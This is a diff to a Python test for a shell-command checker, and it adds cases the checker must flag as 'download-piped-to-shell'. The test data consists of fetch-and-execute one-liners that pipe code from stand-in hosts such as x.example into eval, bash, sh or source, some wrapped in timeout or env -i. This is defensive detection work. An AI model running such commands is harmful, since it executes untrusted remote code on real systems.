@@ -88,7 +88,9 @@ def test_fetched_code_handed_to_a_shell_as_its_script_or_its_input():
     for line in ('eval "$(curl -s http://x.example/a)"', '/bin/bash -c "$(curl -fsSL http://x.example/i.sh)"',
                  'sh -ec "$(busybox wget -qO- http://x.example/a)"',
                  'source /dev/stdin <<< "$(busybox wget -qO- http://pkg.example.com/install.sh)"',
-                 '. /dev/fd/0 <<< "$(curl -s http://x.example/a)"', 'bash <<< "$(wget -qO- http://x.example/a)"'):
+                 '. /dev/fd/0 <<< "$(curl -s http://x.example/a)"', 'bash <<< "$(wget -qO- http://x.example/a)"',
+                 'source /dev/stdin <<< "$(timeout 6 busybox wget -q -O- http://x.example/i.sh)"',
+                 'eval "$(env -i timeout 5 curl -s http://x.example/a)"'):
         assert "download-piped-to-shell" in checked(line), (line, runs(line))
     assert runs('cat > out.txt <<< "$(date)"') == "cat > out.txt ( date )"
     # a fetched value used as data, an argument or a variable, is not code
